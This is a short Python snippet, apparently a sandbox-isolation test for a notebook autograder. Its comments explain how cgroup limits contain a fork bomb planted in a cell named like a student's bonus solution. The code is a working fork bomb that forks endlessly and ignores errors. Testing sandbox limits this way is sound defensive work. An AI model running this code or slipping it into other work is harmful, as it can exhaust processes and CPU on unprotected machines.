# A fork bomb in the last bonus cell: every child forks forever. The pids cgroup
# stops it at the process limit and the cpu cgroup keeps it to one core, so the
# students graded beside it do not notice; the notebook times out.

# %% p1_e9_solution_pool_backward
import os

try:
    while True:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
except OSError as error:
    print("límite de procesos:", error)
